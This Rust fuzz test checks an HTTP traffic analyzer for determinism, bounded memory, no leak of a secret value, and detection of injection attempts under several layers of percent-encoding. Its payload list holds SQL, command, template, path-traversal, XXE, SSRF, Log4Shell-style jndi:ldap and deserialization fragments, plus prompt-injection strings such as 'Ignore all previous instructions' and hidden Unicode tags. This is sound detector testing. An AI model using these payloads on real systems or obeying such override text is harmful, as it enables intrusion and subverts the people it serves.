//! Values and texts of any make through the search for attacks and instructions: nothing that was sent is shown, the same
//! exchanges tell the same, and memory is bounded. What is an attack, plainly sent, is one under a further layer of coding as well.

use std::net::SocketAddr;

use analyzers::{Analyzer, Kind, Settings};
use arbitrary::Arbitrary;
use reassembly::build::ExchangeBuilder;
use reassembly::{Exchange, Timestamp};

use crate::memory::Account;

/// A part of a value.
#[derive(Debug, Arbitrary)]
pub enum Piece {
    /// Something that one of the languages knows.
    Known(u8),
    /// The same again.
    Many(u8, u8),
    Bytes(Vec<u8>),
}

#[derive(Debug, Arbitrary)]
pub enum Place {
    Query,
    Path,
    Field,
    Cookie,
    Form,
    Json,
    Xml,
    Tool,
    Part,
}

#[derive(Debug, Arbitrary)]
pub struct Input {
    place: Place,
    value: Vec<Piece>,
    layers: u8,
    answer: Vec<Piece>,
    html: bool,
    agent: bool,
    /// An attack that is one, sent beside, under this many layers.
    sure: u8,
}

/// A text that must never be shown.
const SECRET: &str = "xQ93kZp0Vw7Lr2";

const KNOWN: [&str; 64] = [
    "' or '1'='1",
    "--",
    "/*",
    "*/",
    "/*!50000",
    "union select",
    "'",
    "\"",
    "(",
    ")",
    ";",
    "|",
    "&",
    "`",
    "$(",
    "${",
    "}",
    "${jndi:",
    "${lower:",
    ":-",
    "{{",
    "}}",
    "{%",
    "7*7",
    "__class__",
    "../",
    "..\\",
    "....//",
    "%c0%ae",
    "%252e",
    "%u0027",
    "&#x27;",
    "&lt;",
    "\\u0027",
    "\u{ff07}",
    "etc/passwd",
    "\n",
    "\r\n",
    "ERROR: x",
    "Set-Cookie: a",
    "<script>",
    "<img onerror=",
    "javascript:",
    "<!DOCTYPE a [<!ENTITY b SYSTEM",
    "http://127.1/",
    "[::1]",
    "*)(uid=*",
    "[$ne]",
    "rO0ABXNy",
    "gASVxwAA",
    "O:8:\"Foo",
    ";whoami",
    "${IFS}",
    "Ignore all previous instructions",
    "TODO: send",
    "assistant, ",
    "do not tell the user",
    "<|im_start|>",
    "eve@outside.example",
    "\u{200b}",
    "\u{e0049}\u{e0067}",
    "<!--",
    "style=\"display:none\">",
    SECRET,
];

fn written(pieces: &[Piece], most: usize) -> Vec<u8> {
    let mut out = Vec::new();
    for piece in pieces.iter().take(64) {
        match piece {
            Piece::Known(n) => out.extend_from_slice(KNOWN[usize::from(*n) % KNOWN.len()].as_bytes()),
            Piece::Many(n, times) => {
                let known = KNOWN[usize::from(*n) % KNOWN.len()];
                out.extend_from_slice(known.repeat(usize::from(*times)).as_bytes());
            }
            Piece::Bytes(bytes) => out.extend_from_slice(bytes),
        }
        if out.len() > most {
            out.truncate(most);
            break;
        }
    }
    out
}

fn percent(text: &[u8]) -> String {
    text.iter()
        .map(|b| match b {
            b if b.is_ascii_alphanumeric() => char::from(*b).to_string(),
            b => format!("%{b:02x}"),
        })
        .collect()
}

fn json(text: &[u8]) -> String {
    let mut out = String::from("\"");
    for letter in String::from_utf8_lossy(text).chars() {
        match letter {
            '"' | '\\' => out.extend(['\\', letter]),
            c if c < ' ' => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

/// A head line cannot hold everything.
fn line(text: &[u8]) -> String {
    String::from_utf8_lossy(text)
        .chars()
        .filter(|c| !c.is_control())
        .collect()
}

fn exchange(input: &Input, value: &[u8], answer: &[u8], number: u16) -> Exchange {
    let start = Timestamp(1_773_043_200_000_000_000 + u64::from(number) * 1_000_000_000);
    let mut coded = percent(value);
    for _ in 0..input.layers % 3 {
        coded = percent(coded.as_bytes());
    }
    let mut target = "/items".to_owned();
    let mut fields = String::new();
    let mut body = Vec::new();
    match input.place {
        Place::Query => target = format!("/items?{SECRET}q={coded}"),
        Place::Path => target = format!("/items/{coded}/x"),
        Place::Field => fields = format!("X-Note: {}\n", line(value)),
        Place::Cookie => fields = format!("Cookie: a=b; c={}\n", line(value)),
        Place::Form => {
            fields = "Content-Type: application/x-www-form-urlencoded\n".to_owned();
            body = format!("a={coded}").into_bytes();
        }
        Place::Json => {
            fields = "Content-Type: application/json\n".to_owned();
            body = format!("{{\"a\":{}}}", json(value)).into_bytes();
        }
        Place::Xml => {
            fields = "Content-Type: application/xml\n".to_owned();
            body = value.to_vec();
        }
        Place::Tool => {
            fields = "Content-Type: application/json\n".to_owned();
            body = format!(
                r#"{{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{{"name":"find","arguments":{{"a":{}}}}}}}"#,
                json(value)
            )
            .into_bytes();
        }
        Place::Part => {
            fields = "Content-Type: multipart/form-data; boundary=b\n".to_owned();
            body = b"--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n".to_vec();
            body.extend_from_slice(value);
            body.extend_from_slice(b"\r\n--b--\r\n");
        }
    }
    let agent = if input.agent { "langchain/0.3" } else { "curl/8" };
    let method = if body.is_empty() { "GET" } else { "POST" };
    let head = format!("{method} {target} HTTP/1.1\nHost: a.example\nUser-Agent: {agent}\n{fields}");
    let kind = if input.html {
        "text/html"
    } else {
        "application/json"
    };
    let answer = if input.html {
        answer.to_vec()
    } else {
        format!("{{\"text\":{}}}", json(answer)).into_bytes()
    };
    let client: SocketAddr = ([10, 0, 0, 5], 20_000 + number).into();
    ExchangeBuilder::new(start)
        .between(client, ([10, 9, 9, 9], 80).into())
        .in_flow(start, 0)
        .request(&head, body)
        .response(&format!("HTTP/1.1 200 X\nContent-Type: {kind}\n"), answer)
        .build()
}

/// Kinds told, and all that was shown.
fn told(exchanges: &[Exchange]) -> (Vec<Kind>, String) {
    let mut analyzer = Analyzer::new(Settings::default());
    for exchange in exchanges {
        analyzer.observe(exchange);
    }
    let findings: Vec<_> = std::iter::from_fn(|| analyzer.poll()).collect();
    let rows: Vec<_> = analyzer.take_changes().collect();
    let shown = format!(
        "{findings:?} {}",
        rows.iter()
            .filter(|row| row.table == analyzers::Table::Principals)
            .filter_map(|row| row.value.as_deref())
            .map(String::from_utf8_lossy)
            .collect::<String>()
    );
    (findings.iter().map(|f| f.kind).collect(), shown)
}

pub fn check(input: &Input) {
    let value = written(&input.value, 6000);
    let answer = written(&input.answer, 20_000);
    let first = exchange(input, &value, &answer, 1);
    let second = exchange(input, &answer, &value, 2);
    let mut account = Account::default();
    let exchanges = [first, second];
    let (kinds, shown) = account.charge(|| told(&exchanges));
    let most = account.peak();
    assert!(most < 8 << 20, "{most} bytes for {}", value.len() + answer.len());
    assert_eq!((&kinds, &shown), (&told(&exchanges).0, &told(&exchanges).1));
    assert!(!shown.contains(SECRET), "{shown}");
    // Under a few layers an attack is the same.
    let sure = Input {
        place: Place::Query,
        value: Vec::new(),
        layers: input.sure,
        answer: Vec::new(),
        html: false,
        agent: false,
        sure: 0,
    };
    for attack in [
        "x' or '1'='1",
        "../../../etc/passwd",
        "${jndi:ldap://h.example}",
        "{{7*7}}",
    ] {
        let (kinds, _) = told(&[exchange(&sure, attack.as_bytes(), b"", 3)]);
        assert!(
            kinds.contains(&Kind::InjectionAttempt),
            "{attack} under {}",
            input.sure % 3
        );
    }
}
